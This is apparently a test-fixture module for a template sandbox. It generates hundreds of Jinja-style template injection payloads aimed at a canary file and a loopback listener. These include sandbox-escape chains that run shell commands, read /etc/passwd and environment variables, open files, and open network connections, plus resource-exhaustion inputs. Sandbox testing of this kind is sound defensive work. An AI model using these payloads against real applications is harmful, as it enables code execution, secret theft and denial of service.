"""Template injection: what people write into a template to make it run, read, call out or eat the machine."""

from __future__ import annotations

RUN = ("id", "echo canary > {file}", "cat /etc/passwd")
GLOBALS = ("cycler", "joiner", "namespace", "lipsum", "range", "dict", "self", "loop", "config", "request", "g", "url_for")
WALKS = (
    "{{{{ {g}.__init__.__globals__.os.popen('touch {file}').read() }}}}",
    "{{{{ {g}.__class__.__mro__[-1].__subclasses__() }}}}",
    "{{{{ {g}|attr('__init__')|attr('__globals__') }}}}",
)
LITERALS = ("''", "()", "[]", "{}", "1", "1.0", "true", "none", "name", "rows")
ATTRIBUTES = (
    "{{{{ {v}.__class__ }}}}", "{{{{ {v}['__class__'] }}}}", "{{{{ {v}|attr('__class__') }}}}",
    "{{{{ {v}.__class__.__base__.__subclasses__()[40]('{file}','w').write('x') }}}}",
)
SINGLE = (
    "{{{{ name.upper.__self__ }}}}", "{{{{ name.format.__globals__ }}}}", "{{{{ '%s'|format(name) }}}}",
    "{{{{ '{{0.__class__.__init__.__globals__}}'.format(name) }}}}", "{{{{ '{{0[__class__]}}'.format_map(name) }}}}",
    "{{{{ name|format_map }}}}", "{{{{ rows|map(attribute='__class__')|list }}}}", "{{{{ rows|map('attr','__class__')|list }}}}",
    "{{{{ rows|sort(attribute='__class__') }}}}", "{{{{ rows|groupby('__class__') }}}}", "{{{{ rows|selectattr('__class__') }}}}",
    "{{{{ rows|sum(attribute='__class__') }}}}", "{{{{ rows|unique(attribute='__class__')|list }}}}",
    "{{{{ rows|xmlattr }}}}", "{{{{ name|safe }}}}", "{{{{ name|tojson }}}}", "{{{{ name|pprint }}}}", "{{{{ name|random }}}}",
    "{{{{ name|e|attr('__html__') }}}}", "{{{{ name|string|attr('__class__') }}}}",
    "{{{{ (name|attr)('__class__') }}}}", "{{{{ name['__cl'+'ass__'] }}}}", "{{{{ name['__cl'~'ass__'] }}}}",
    "{{{{ name['\\x5f\\x5fclass\\x5f\\x5f'] }}}}", "{{{{ name.__getattribute__('__class__') }}}}",
    "{{% set x = cycler.__init__.__globals__ %}}{{{{ x }}}}", "{{% set x = 1 %}}{{{{ x }}}}",
    "{{% macro m() %}}x{{% endmacro %}}{{{{ m() }}}}", "{{% macro m() %}}{{{{ caller() }}}}{{% endmacro %}}{{% call m() %}}x{{% endcall %}}",
    "{{% include '{file}' %}}", "{{% import 'os' as os %}}{{{{ os }}}}", "{{% from 'os' import popen %}}", "{{% extends '{file}' %}}",
    "{{% block b %}}{{{{ self.b.__globals__ }}}}{{% endblock %}}", "{{% filter attr('__class__') %}}x{{% endfilter %}}",
    "{{% with a = cycler %}}{{{{ a }}}}{{% endwith %}}", "{{% autoescape false %}}{{{{ name }}}}{{% endautoescape %}}",
    "{{% raw %}}{{{{ x }}}}{{% endraw %}}{{{{ cycler.next }}}}", "{{% do name.x() %}}", "{{% debug %}}", "{{% trans %}}x{{% endtrans %}}",
    "{{% for x in cycler.__init__.__globals__ %}}{{{{ x }}}}{{% endfor %}}", "{{% for x in rows if x.__class__ %}}x{{% endfor %}}",
    "{{% for x in rows recursive %}}{{{{ loop(rows) }}}}{{% endfor %}}", "{{% for a, b in rows %}}x{{% endfor %}}",
    "{{% for x in rows %}}{{{{ loop.__class__ }}}}{{% endfor %}}", "{{% for x in rows %}}{{{{ loop._iterable }}}}{{% endfor %}}",
    "{{% for x in rows %}}{{{{ loop.cycle.__globals__ }}}}{{% endfor %}}", "{{% for x in rows %}}{{{{ loop.changed(x) }}}}{{% endfor %}}",
    "{{% for x in rows %}}{{{{ x.items() }}}}{{% endfor %}}", "{{% for x in rows %}}{{{{ x.pop('text') }}}}{{% endfor %}}",
    "{{% for x in rows %}}{{{{ x.__class__ }}}}{{% endfor %}}", "{{% for x in rows %}}{{{{ x.text.__class__ }}}}{{% endfor %}}",
    "{{% if cycler.__init__.__globals__.os.system('touch {file}') %}}x{{% endif %}}", "{{% if name is callable %}}x{{% endif %}}",
    "{{{{ name() }}}}", "{{{{ rows.append(1) }}}}", "{{{{ name.join(rows) }}}}", "{{{{ name.encode('rot13') }}}}",
    "{{{{ self._TemplateReference__context }}}}", "{{{{ self.__init__.__globals__ }}}}", "{{{{ ''.__doc__ }}}}",
    "{{{{ undefined_thing.__init__.__globals__.__builtins__.open('{file}','w') }}}}", "{{{{ nothing.__class__ }}}}",
    "{{{{ lipsum.__globals__['os'].environ['FANXIAO_CANARY'] }}}}", "{{{{ cycler.__init__.__globals__.os.environ }}}}",
    "{{{{ joiner.__init__.__globals__.os.environ.FANXIAO_CANARY }}}}",
    "{{{{ lipsum.__globals__.__builtins__.__import__('urllib.request').request.urlopen('http://127.0.0.1:{port}/') }}}}",
    "{{{{ cycler.__init__.__globals__.__builtins__['__import__']('socket').create_connection(('127.0.0.1',{port})) }}}}",
    "{{{{ namespace.__init__.__globals__.sys.modules }}}}", "{{{{ cycler.reset.__globals__ }}}}", "{{{{ cycler.next.__code__ }}}}",
    "{{{{ 1 if cycler else 2 }}}}", "{{{{ name if true }}}}", "{{{{ not name }}}}{{{{ range }}}}", "{{{{ [name] }}}}", "{{{{ (name, rows) }}}}",
    "{{{{ {{'a': name}} }}}}", "{{{{ name[0] }}}}", "{{{{ name[::-1] }}}}", "{{{{ rows[0].text }}}}", "{{{{ rows.0.text.__class__ }}}}",
    "{{{{ name in rows }}}}", "{{{{ name is defined }}}}", "{{{{ name ~ name }}}}", "{{{{ -1 }}}}", "{{{{ 7*7 }}}}", "{{{{ 7/0 }}}}", "{{{{ 7%2 }}}}",
)
RESOURCES = (
    "{{{{ 'a'*2000000000 }}}}", "{{{{ name*2000000000 }}}}", "{{{{ 9**9**9**9 }}}}", "{{{{ 'a'~'a'*999999999 }}}}",
    "{{% for a in range(99999) %}}{{% for b in range(99999) %}}{{% for c in range(99999) %}}x{{% endfor %}}{{% endfor %}}{{% endfor %}}",
    "{{% for a in rows %}}{{% for b in rows %}}{{% for c in rows %}}x{{% endfor %}}{{% endfor %}}{{% endfor %}}",
    "{{{{ range(10**9)|list }}}}", "{{{{ name|center(999999999) }}}}", "{{{{ name|indent(999999999) }}}}", "{{{{ lipsum(n=99999) }}}}",
    "{{{{ name.zfill(999999999) }}}}", "{{{{ name.ljust(999999999) }}}}", "{{{{ '%999999999d'|format(1) }}}}",
    "{{{{ rows|batch(1)|list|batch(1)|list }}}}", "{{{{ ''.join(rows) }}}}", "{{{{ name|replace('', name*9999) }}}}", "{{{{ 1<<9999999999 }}}}",
)


def payloads(file: str, port: int) -> list[str]:
    """All of them, aimed at a canary file and a listener on the loopback."""
    aim = {"file": file, "port": port}
    walks = [text.format(g=name, **aim) for name in GLOBALS for text in WALKS]
    reads = [text.format(v=value, **aim) for value in LITERALS for text in ATTRIBUTES]
    return [*walks, *reads, *(text.format(**aim) for text in (*SINGLE, *RESOURCES))]


COUNT = len(GLOBALS) * len(WALKS) + len(LITERALS) * len(ATTRIBUTES) + len(SINGLE) + len(RESOURCES)
